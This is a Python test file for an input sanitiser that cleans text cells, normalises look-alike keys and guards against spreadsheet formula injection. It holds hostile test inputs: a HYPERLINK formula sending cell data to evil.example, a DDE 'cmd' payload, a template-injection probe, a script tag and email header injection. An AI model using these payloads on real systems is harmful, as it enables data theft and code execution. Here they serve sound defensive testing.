"""Text cells, keys and the formula guard."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reminder.register.guard import guard, unguard
from reminder.register.keys import key_check, look
from reminder.register.text import CellError, clean, code_check, shown


@pytest.mark.parametrize(
    ("text", "name"),
    [
        pytest.param("PT X\r\nBcc: all@example.org", "a line break", id="X-04: CR LF"),
        pytest.param("Biro\u2028Bcc: x@example.org", "a line break", id="X-05: line separator"),
        pytest.param("Biro\x85Bcc", "a line break", id="X-05: NEL"),
        pytest.param("Biro\x0bBcc", "a line break", id="X-05: vertical tab"),
        pytest.param("Bi\0ro", "NUL", id="X-06: NUL"),
        pytest.param("\t=1+1", "a tab", id="X-03: tab before a formula"),
        pytest.param("\r=1+1", "a line break", id="X-03: CR before a formula"),
        pytest.param("a\u202eb", "reading direction", id="X-10: bidi override"),
        pytest.param("a\u2066b", "reading direction", id="X-10: bidi isolate"),
        pytest.param("a\u200bb", "invisible", id="X-10: zero-width space"),
        pytest.param("a\x1bb", "control", id="escape"),
        pytest.param("a\ud800b", "half a character", id="X-11: lone surrogate"),
    ],
)
def test_unsafe_character_is_refused_by_name(text: str, name: str) -> None:
    with pytest.raises(CellError) as caught:
        clean(text)
    assert name in caught.value.message
    assert all(char.isprintable() for char in str(caught.value))


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('=HYPERLINK("https://evil.example/?"&A1,"klik")', id="X-01"),
        pytest.param("@SUM(1+1)*cmd|'/c calc'!A0", id="X-02"),
        pytest.param("＝1+1", id="X-03: fullwidth"),
        pytest.param("{{ config }} {% for x in y %} {{ ''.__class__ }}", id="X-07"),
        pytest.param("<script>alert(1)</script></td></table>", id="X-08"),
        pytest.param("नि\u200dका 👩\u200d👩\u200d👧", id="joiners inside words and emoji"),
        pytest.param("Kerja\u00a0sama", id="a fixed space"),
    ],
)
def test_text_that_is_only_text_is_stored_as_it_is(text: str) -> None:
    assert clean(text) == text


def test_newlines_are_allowed_in_notes_only_and_become_one_kind() -> None:
    assert clean("a\r\nb\rc\n", lines=True) == "a\nb\nc"
    with pytest.raises(CellError, match="several lines"):
        clean("a\nb")


def test_flood_of_marks_is_refused() -> None:
    with pytest.raises(CellError, match="marks on one letter"):
        clean("a" + "\u0300" * 5_000)
    assert clean("a\u0301") == "\u00e1"


def test_long_text_is_refused_and_cut_in_the_message() -> None:
    with pytest.raises(CellError) as caught:
        clean("x" * 1_000_000, 500)
    assert len(caught.value.message) < 150
    assert "1,000,000 characters" in caught.value.message


def test_shown_value_escapes_what_cannot_be_seen() -> None:
    assert shown("a\r\n\u202e\u00a0") == '"a\\x0d\\x0a\\u202e\\xa0"'


@pytest.mark.parametrize(
    ("one", "other"),
    [
        pytest.param("KSD-1", "ksd-1", id="X-17: case"),
        pytest.param("KSD-1", "KSD\u20131", id="X-17: en dash"),
        pytest.param("KSD-1", "KSD\u22121", id="X-17: minus sign"),
        pytest.param("KSD 1", "KSD\u00a01", id="X-17: fixed space"),
        pytest.param("KSD - 1", "KSD-1", id="X-17: spaces around the dash"),
        pytest.param("KSD 1", "KSD  1", id="X-17: two spaces"),
        pytest.param("KSD 1", "KSD1", id="X-17: no space"),
        pytest.param("ＫＳＤ-1", "KSD-1", id="fullwidth letters"),
    ],
)
def test_keys_that_look_alike_are_the_same(one: str, other: str) -> None:
    assert look(one) == look(other)


@pytest.mark.parametrize(
    ("one", "other"), [("PKS 1 1", "PKS 11"), ("KSD-1", "KSD-11"), ("a/b", "a-b")]
)
def test_keys_that_look_different_stay_different(one: str, other: str) -> None:
    assert look(one) != look(other)


def test_key_has_single_plain_spaces() -> None:
    assert key_check()("KSD\u00a0 1") == "KSD 1"
    with pytest.raises(CellError, match="invisible"):
        key_check()("KSD\u200d1")


def test_code_is_mended_or_refused() -> None:
    assert code_check(64)("Surat Konfirmasi") == "surat_konfirmasi"
    with pytest.raises(CellError, match="short name"):
        code_check(64)("MoU (final)")


@given(st.text())
def test_guard_is_taken_off_exactly_once(text: str) -> None:
    assert unguard(guard(text)) == text


@given(st.text(alphabet="'=+-@＝x\t"))
def test_guarded_text_starts_no_formula(text: str) -> None:
    assert not guard(text).startswith(("=", "+", "-", "@", "\t", "＝"))
    assert unguard(guard(text)) == text


@given(st.text(max_size=200))
def test_stored_text_is_stored_the_same_again(text: str) -> None:
    try:
        stored = clean(text, lines=True)
    except CellError:
        return
    assert clean(stored, lines=True) == stored
